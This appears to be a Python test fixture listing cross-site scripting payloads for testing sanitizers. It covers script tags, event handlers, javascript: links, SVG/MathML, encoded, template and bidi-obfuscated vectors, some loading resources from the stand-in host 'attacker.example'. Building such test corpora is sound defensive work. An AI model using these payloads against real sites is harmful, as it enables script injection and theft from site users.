"""Strings that run a script, or fetch something, wherever they are taken for more than text.

Each sets ``window.hacked``, opens a dialog, or asks another host for something.
"""

_JS = "window.hacked=1"
_HOST = "//attacker.example/x"

TAGS = (
    f"<script>{_JS}</script>",
    f"<ScRiPt>{_JS}</sCrIpT>",
    f"<script src={_HOST}.js></script>",
    f"<script\x0b>{_JS}</script\x0b>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    f"</script><script>{_JS}</script>",
    f"</title><script>{_JS}</script>",
    f"</textarea><script>{_JS}</script>",
    f"</style><script>{_JS}</script>",
    f"--><script>{_JS}</script><!--",
    f"]]><script>{_JS}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_JS}>'>",
    f"<template><script>{_JS}</script></template><img src=x onerror={_JS}>",
    f"<iframe src='javascript:parent.{_JS}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_JS}</script>'></iframe>",
    f"<object data='javascript:{_JS}'></object>",
    f"<embed src='javascript:{_JS}'>",
    f"<base href='https:{_HOST}/'>",
    f"<link rel=stylesheet href='https:{_HOST}.css'>",
    f"<meta http-equiv=refresh content='0;url=https:{_HOST}'>",
    f"<style>@import 'https:{_HOST}.css';</style>",
    f"<form action='https:{_HOST}'><button autofocus onfocus={_JS}>gửi</button></form>",
)
ATTRIBUTES = (
    f"<img src=x onerror={_JS}>",
    f"<img src='https:{_HOST}.png'>",
    f"<img/src='x'/onerror={_JS}>",
    "<img src=x onerror=&#119;indow.hacked=1>",
    f"<body onload={_JS}>",
    f"<input autofocus onfocus={_JS}>",
    f"<details open ontoggle={_JS}>",
    f"<video><source onerror={_JS}></video>",
    f"<audio src=x onerror={_JS}>",
    f"<marquee onstart={_JS}>",
    f"<div style='animation:spin 1s' onanimationstart={_JS}>",
    f"<div style=\"background:url('https:{_HOST}.gif')\">",
    f'" onmouseover="{_JS}" autofocus onfocus="{_JS}',
    f"' onmouseover='{_JS}' autofocus onfocus='{_JS}",
    f"` onmouseover=`{_JS}",
    f"x onfocus={_JS} tabindex=1 autofocus",
)
URLS = (
    f"<a href='javascript:{_JS}'>bấm</a>",
    f"<a href='jAvAsCrIpT&colon;{_JS}'>bấm</a>",
    f"<a href='java\tscript:{_JS}'>bấm</a>",
    f"<a href='data:text/html,<script>opener.{_JS}</script>' target=_blank>bấm</a>",
    f"javascript:{_JS}",
    f"[bấm](javascript:{_JS})",
    f"![ảnh](https:{_HOST}.png)",
    f"[x]: javascript:{_JS}\n[x]",
    f"<javascript:{_JS}>",
)
FOREIGN = (
    f"<svg onload={_JS}>",
    f"<svg><script>{_JS}</script></svg>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{_JS}'><text y=20>bấm</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_JS}>'></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_JS}></style></table></mtext></math>",
    f"<math href='javascript:{_JS}'>bấm</math>",
    f"<svg><style><img src=x onerror={_JS}></style></svg>",
)
ENTITIES = (
    f"&lt;script&gt;{_JS}&lt;/script&gt;",
    "&#60;script&#62;window.hacked=1&#60;/script&#62;",
    "&#x3C;img src=x onerror=window.hacked=1&#x3E;",
    f"%3Cscript%3E{_JS}%3C/script%3E",
    f"\\u003cscript\\u003e{_JS}\\u003c/script\\u003e",
    f"＜script＞{_JS}＜/script＞",
)
TEMPLATES = (
    "{{constructor.constructor('window.hacked=1')()}}",
    "${window.hacked=1}",
    "#{window.hacked=1}",
    "<%= window.hacked=1 %>",
    "{%if 1%}{{hacked}}{%endif%}",
    "$$\\href{javascript:window.hacked=1}{x}$$",
    "{@html '<img src=x onerror=window.hacked=1>'}",
)
DIRECTIONS = (
    f"\u202e<script>{_JS}</script>\u202c",
    f"\u2067>x=rorrene x=crs gmi<\u2069<img src=x onerror={_JS}>",
    f"a\u200b<img src=x onerror={_JS}>\u200d",
)
ATTACKS = (*TAGS, *ATTRIBUTES, *URLS, *FOREIGN, *ENTITIES, *TEMPLATES, *DIRECTIONS)
